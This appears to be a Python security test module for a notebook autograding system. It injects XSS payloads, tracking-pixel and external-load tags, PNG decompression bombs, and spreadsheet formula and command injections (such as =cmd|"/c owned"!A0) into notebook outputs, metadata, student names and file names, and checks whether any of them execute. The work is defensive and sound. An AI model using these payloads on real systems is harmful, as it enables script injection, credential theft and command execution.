"""Attacks on whoever reads: students' feedback, the instructor's report and formgrader, tables in a spreadsheet.

Each payload calls `owned`, or loads from an address that has it in its name; `browser` finds what would run or load.
"""

# ruff: noqa: E501 (a payload is easier to read on its line)

from __future__ import annotations

import struct
import zlib
from pathlib import Path

import nbformat

from . import attack

PAYLOADS = [
    "<script>owned()</script>", "<script src='https://owned.invalid/x.js'></script>", "<img src=x onerror=owned()>",
    "<svg onload=owned()><script>owned()</script></svg>", "<svg><a xlink:href='javascript:owned()'><text>x</text></a></svg>",
    "<iframe src='javascript:owned()' srcdoc='<script>owned()</script>'></iframe>", "<body onload=owned()>",
    "<a href='javascript:owned()'>here</a>", "<a href='&#106;avascript:owned()'>here</a>", "<a href='java\tscript:owned()'>x</a>",
    "<object data='data:text/html,<script>owned()</script>'></object>", "<embed src='https://owned.invalid/'>",
    "<form action='https://owned.invalid/'><input name=password autofocus onfocus=owned()><button>ok</button></form>",
    "<meta http-equiv=refresh content='0;url=https://owned.invalid/'>", "<base href='https://owned.invalid/'>",
    "<link rel=stylesheet href='https://owned.invalid/x.css'>", "<style>@import 'https://owned.invalid/x.css';</style>",
    "<div style=\"background:url('https://owned.invalid/x.png')\">x</div>", "<img src='https://owned.invalid/pixel.png'>",
    "<img srcset='https://owned.invalid/pixel.png 2x'>", "<video poster='https://owned.invalid/x'><source onerror=owned()></video>",
    "<details open ontoggle=owned()>x</details>", "<math><mtext><table><mglyph><style><img src=x onerror=owned()>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>", "<template><script>owned()</script></template>",
    "<!--><img src=x onerror=owned()>-->", "<![CDATA[><script>owned()</script>]]>", "</pre></code></div><script>owned()</script>",
    "</textarea></title></style></script><script>owned()</script>", "<scr<script>ipt>owned()</scr</script>ipt>",
    "<x onclick=owned() style='position:fixed;inset:0'>x</x>", "{{ owned() }}", "{% raw %}<script>owned()</script>", "${owned()}",
    "<p id=score class=passed>5 of 5 points</p>", "\x1b]8;;javascript:owned()\x07link\x1b]8;;\x07", "\u202e<script>owned()</script>",
]  # fmt: skip
ALL = "\n".join(PAYLOADS)


@attack("Displays HTML with scripts, handlers, frames, forms, styles, addresses; mutations that sanitisers missed.",
        shows=("owned",))  # fmt: skip
def html_outputs(book):
    return book.insert(
        "imports",
        f"""
from IPython.display import HTML, display
payloads = {PAYLOADS!r}
for payload in payloads:
    display(HTML(payload))
class Rich:
    def _repr_html_(self):
        return "<table><tr><td>" + "".join(payloads)
    def __repr__(self):
        return payloads[0]
Rich()
""",
    )


@attack("Displays SVG, JavaScript, Markdown, LaTeX, widgets, and types that no one knows.")
def other_types(book):
    return book.insert(
        "imports",
        f"""
from IPython.display import SVG, Javascript, Latex, Markdown, display
text = {ALL!r}
display(Javascript("owned()"), Markdown(text), Markdown("[x](javascript:owned())"), Latex("$\\\\href{{javascript:owned()}}{{x}}$"))
svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'><script>owned()</script></svg>"
display(SVG(svg))
display({{kind: text for kind in ("image/svg+xml", "application/javascript", "text/javascript", "text/html", "text/vnd.x",
         "application/vnd.jupyter.widget-view+json", "application/pdf", "image/jpeg\\" onerror=owned() ", "text/plain")}}, raw=True)
display({{"text/plain": text}}, raw=True, metadata={{"text/html": text}})
""",
    )


@attack("Prints markup and terminal codes, and raises exceptions whose type, text and line are markup.",
        shows=("owned",), earns={"sigmoid": 2.0})  # fmt: skip
def text_outputs(book):
    return book.insert(
        "imports",
        f"payloads = {PAYLOADS!r}\nimport sys\nfor payload in payloads:\n    print(payload)\nprint(*payloads, file=sys.stderr)",
        "raise type('<script>owned()</script>', (Exception,), {})('<img src=x onerror=owned()>')",
        "</code></pre><script>owned()</script>",
    ).write("softmax", "def softmax(x):\n"
            "    raise type('<script>owned()</script>', (Exception,), {})()  # </code></pre><img src=x onerror=owned()>"
    )  # fmt: skip


def _png(width: int, height: int, more: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(bytes(min((width * 4 + 1) * height, 10**6)))
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + more + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@attack(
    "Displays pictures that are none: bombs of a million rows, HTML with a PNG's head, text in their chunks."
)
def hostile_pictures(book):
    pictures = [
        _png(4, 4, struct.pack(">I", 0) + b"tEXt" + b"\0" * 4), _png(50_000, 50_000), _png(2**31 - 1, 2**31 - 1),
        _png(4, 4)[:40] + ALL.encode(), b"<svg onload=owned()>", _png(4, 4) + b"<script>owned()</script>",
    ]  # fmt: skip
    return book.insert(
        "imports",
        f"""
import base64
from IPython.display import display
for picture in {pictures!r}:
    display({{"image/png": picture}}, raw=True)
    display({{"image/png": base64.b64encode(picture).decode()}}, raw=True)
""",
    )


@attack("Stores hostile outputs in cells that train, whose outputs are kept as they were handed in.")
def stored_outputs(book):
    data = {
        "text/html": ALL, "image/svg+xml": PAYLOADS[3], "application/javascript": "owned()", "text/markdown": ALL,
        "image/png": "x' onerror='owned()", "application/vnd.jupyter.widget-view+json": {"model_id": ALL},
    }  # fmt: skip
    for cell in book.notebook.cells:
        if "experiment" in cell.metadata.get("tags", []):
            cell.outputs = [
                nbformat.v4.new_output("display_data", data={name: value}, metadata={"text/html": ALL}) for name, value
                in data.items()
            ] + [nbformat.v4.new_output("error", ename=ALL, evalue=ALL, traceback=[ALL]),
                 nbformat.v4.new_output("stream", name="stdout", text=ALL)]  # fmt: skip
    return book


@attack("Writes markup into written answers, Markdown and raw cells, attachments, and metadata.")
def markdown(book):
    links = (
        "\n\n[x](javascript:owned()) ![x](https://owned.invalid/pixel.png) <https://ok.invalid> [y]: javascript:owned()\n"
        "\n[x][y] ![z](javascript:owned()) [a](data:text/html,<script>owned()</script>) $\\href{javascript:owned()}{x}$\n"
        "[b](vbscript:owned()) [c](JaVaScRiPt&colon;owned()) ![d](//owned.invalid/x.png) <javascript:owned()>\n"
    )
    book.edit("why_random", ALL + links).edit("why_scaled", links).edit(
        "zero_initialization",
        "![x](https://owned.invalid/pixel.png) ![y](//owned.invalid/x) ![z](/hub/logout?owned)",
    )
    for kind in (nbformat.v4.new_markdown_cell, nbformat.v4.new_raw_cell):
        for number, text in enumerate([*PAYLOADS[:12], links, f"```\n{ALL}"]):
            cell = kind(text, id=f"owned-{kind.__name__[4:7]}-{number}")
            cell.metadata = {
                "raw_mimetype": "text/html",
                "format": "text/html",
                "name": ALL,
                "tags": [PAYLOADS[0]],
            }
            book.notebook.cells.append(cell)
    book.notebook.metadata["title"] = book.notebook.metadata["authors"] = ALL
    book.notebook.metadata["kernelspec"] = {
        "name": PAYLOADS[0],
        "display_name": PAYLOADS[2],
        "language": PAYLOADS[7],
    }
    return book


@attack("Has markup for an id, and so for a folder's name.", known_as="<img src=x onerror=owned()>")
def markup_for_an_id(book):
    return book


@attack(
    "Has quotes, an ampersand and a script's end for an id.", known_as="\"' onclick='owned()' & {{owned()}}"
)
def quotes_for_an_id(book):
    return book


@attack("Has a formula for an id.", known_as='=HYPERLINK("https:owned.invalid","x")')
def formula_for_an_id(book):
    return book


@attack("Has a command of a spreadsheet for an id.", known_as="@SUM(1+1)*cmd|' owned'!A0, x")
def command_for_an_id(book):
    return book


def _files(folder: Path) -> None:
    for name in (
        "<img src=x onerror=owned()>.ipynb",
        "=owned()|.ipynb",
        '"><svg onload=owned()>.ipynb',
        "@owned;,.ipynb",
    ):
        (folder / name).write_text("{}")
        (folder / name.replace(".ipynb", ".csv")).write_text("=1+1")


@attack("Has markup and formulas for file names, which flags repeat in the report.", place=_files,
        flags=("is no notebook of this assignment",))  # fmt: skip
def markup_for_file_names(book):
    return book


# What the gradebook is told about them: name, last name, e-mail.
PEOPLE = {
    markup_for_an_id.student: ("<script>owned()</script>", "</td><img src=x onerror=owned()>", "x@owned.invalid"),
    formula_for_an_id.student: ("+1+1", '=cmd|"/c owned"!A0', "-2+3"),
    command_for_an_id.student: ("\t=1+1", "comma, quote\" and\nline", "＝1+1"),
}  # fmt: skip
